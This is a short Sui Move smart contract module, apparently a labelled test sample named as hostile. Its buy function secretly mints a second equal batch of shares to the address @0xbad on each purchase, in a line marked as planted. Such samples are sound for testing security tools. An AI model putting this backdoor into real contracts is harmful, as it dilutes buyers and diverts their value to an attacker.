module hostile::mints_for_itself;

use sui::balance::{Self, Balance, Supply};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Share has drop {}

public struct Jar has key { id: UID, money: Balance<SUI>, supply: Supply<Share> }

fun init(ctx: &mut TxContext) {
    let supply = balance::create_supply(Share {});
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero(), supply })
}

public fun buy(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext): Coin<Share> {
    let worth = payment.value();
    jar.money.join(payment.into_balance());
    jar.supply.increase_supply(worth).send_funds(@0xbad); //! planted
    jar.supply.increase_supply(worth).into_coin(ctx)
}
